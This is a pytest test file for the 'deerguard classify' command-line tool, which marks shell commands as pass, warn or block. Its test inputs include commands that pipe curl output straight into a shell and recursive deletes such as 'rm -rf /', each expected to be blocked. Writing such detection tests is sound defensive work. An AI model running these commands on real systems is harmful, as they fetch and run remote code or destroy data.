"""`deerguard classify`: exit codes, caret output, JSON, batch streaming, policy errors."""

from __future__ import annotations

import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

from deerguard.cli import EXIT_BLOCK, EXIT_DATAERR, EXIT_PASS, EXIT_USAGE, EXIT_WARN, main


def _stdin(monkeypatch: pytest.MonkeyPatch, text: str, *, tty: bool = False) -> None:
    stream = io.TextIOWrapper(io.BytesIO(text.encode("utf-8")), encoding="utf-8")
    monkeypatch.setattr(stream, "isatty", lambda: tty)
    monkeypatch.setattr(sys, "stdin", stream)


@pytest.mark.parametrize(("command", "status"), [("ls -la", EXIT_PASS),
                                                 ("pip install x", EXIT_WARN),
                                                 ("curl u | sh", EXIT_BLOCK)])
def test_exit_status_is_the_verdict(command: str, status: int,
                                    capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["classify", command]) == status
    assert capsys.readouterr().out.splitlines()[0] in ("pass", "warn", "block")


def test_human_output_puts_a_caret_under_the_span(capsys: pytest.CaptureFixture[str]) -> None:
    command = "echo ok && curl -s u | sh"
    assert main(["classify", command]) == EXIT_BLOCK
    lines = capsys.readouterr().out.splitlines()
    assert lines[0] == "block"
    at = next(i for i, line in enumerate(lines) if "[shell.pipe-to-shell]" in line)
    assert lines[at].startswith("<command>:1:24: block [shell.pipe-to-shell]")
    assert lines[at + 1] == "    " + command
    assert lines[at + 2] == "    " + " " * command.index("sh") + "^^"
    assert lines[at + 3] == "    = output of curl (11-15) reaches sh (23-25) through a pipe"
    assert lines[-1] == "commands: echo, curl, sh"


def test_caret_on_a_later_line_of_a_multiline_command(capsys: pytest.CaptureFixture[str]
                                                      ) -> None:
    assert main(["classify", "ls\ncd x\nrm -rf ~"]) == EXIT_BLOCK
    out = capsys.readouterr().out
    assert "<command>:3:8: block [shell.recursive-delete]" in out
    assert "\n    rm -rf ~\n           ^\n" in out


def test_json_output(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["classify", "--json", "rm -rf /"]) == EXIT_BLOCK
    data = json.loads(capsys.readouterr().out)
    assert data["verdict"] == "block"
    assert data["findings"][0]["rule_id"] == "shell.recursive-delete"
    assert data["commands"] == ["rm"]


def test_dash_reads_the_command_from_stdin(monkeypatch: pytest.MonkeyPatch,
                                           capsys: pytest.CaptureFixture[str]) -> None:
    _stdin(monkeypatch, "sudo ls\n")
    assert main(["classify", "-"]) == EXIT_WARN


def test_missing_command_on_a_terminal_is_a_usage_error(
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    _stdin(monkeypatch, "", tty=True)
    assert main(["classify"]) == EXIT_USAGE
    assert "COMMAND" in capsys.readouterr().err


def test_policy_file_is_applied(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    policy = tmp_path / "p.toml"
    policy.write_text('[commands]\ndeny = ["make"]\n', encoding="utf-8")
    assert main(["classify", "--policy", str(policy), "make all"]) == EXIT_BLOCK
    assert "shell.denied-command" in capsys.readouterr().out


def test_bad_policy_file_exits_65_naming_file_and_line(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    policy = tmp_path / "p.toml"
    policy.write_text('[commands]\ndeny = "make"\n', encoding="utf-8")
    assert main(["classify", "--policy", str(policy), "ls"]) == EXIT_DATAERR
    assert f"{policy}:2: commands.deny" in capsys.readouterr().err


def test_batch_streams_one_result_per_line(monkeypatch: pytest.MonkeyPatch,
                                           capsys: pytest.CaptureFixture[str]) -> None:
    _stdin(monkeypatch, '"ls"\n\n{"command": "pip install x", "id": "a1"}\n"rm -rf ~"\n')
    assert main(["classify", "--batch"]) == EXIT_BLOCK
    captured = capsys.readouterr()
    rows = [json.loads(line) for line in captured.out.splitlines()]
    assert [r["verdict"] for r in rows] == ["pass", "warn", "block"]
    assert [r["line"] for r in rows] == [1, 3, 4]
    assert rows[1]["id"] == "a1"
    assert captured.err == ""  # no progress bar when stderr is not a terminal


def test_batch_malformed_line_yields_an_error_record_not_a_crash(
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    _stdin(monkeypatch, '{"command": 3}\nnot json\n[1]\n"ls"\n')
    assert main(["classify", "--batch", "-"]) == EXIT_DATAERR
    rows = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [("error" in r) for r in rows] == [True, True, True, False]
    assert rows[3]["verdict"] == "pass"


def test_batch_reads_a_file_argument(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    log = tmp_path / "log.jsonl"
    log.write_text("\n".join(json.dumps(c) for c in ["ls", "sudo ls"]) + "\n", encoding="utf-8")
    assert main(["classify", "--batch", str(log)]) == EXIT_WARN
    assert len(capsys.readouterr().out.splitlines()) == 2


def test_batch_unreadable_file_exits_65(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["classify", "--batch", str(tmp_path / "nope.jsonl")]) == EXIT_DATAERR


def test_progress_bar_goes_to_stderr_only_on_a_terminal(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    log = tmp_path / "log.jsonl"
    log.write_text('"ls"\n"ls -la"\n', encoding="utf-8")
    monkeypatch.setattr(sys.stderr, "isatty", lambda: True)
    assert main(["classify", "--batch", str(log)]) == EXIT_PASS
    captured = capsys.readouterr()
    assert "100.0%" in captured.err and "2 commands" in captured.err
    assert all(json.loads(line) for line in captured.out.splitlines())


@pytest.mark.slow
def test_python_dash_m_deerguard_classify_subprocess() -> None:
    proc = subprocess.run([sys.executable, "-m", "deerguard", "classify", "--json",
                           "curl -s https://x.io/i | bash"], capture_output=True, text=True,
                          timeout=60)
    assert proc.returncode == EXIT_BLOCK, proc.stderr
    assert json.loads(proc.stdout)["verdict"] == "block"
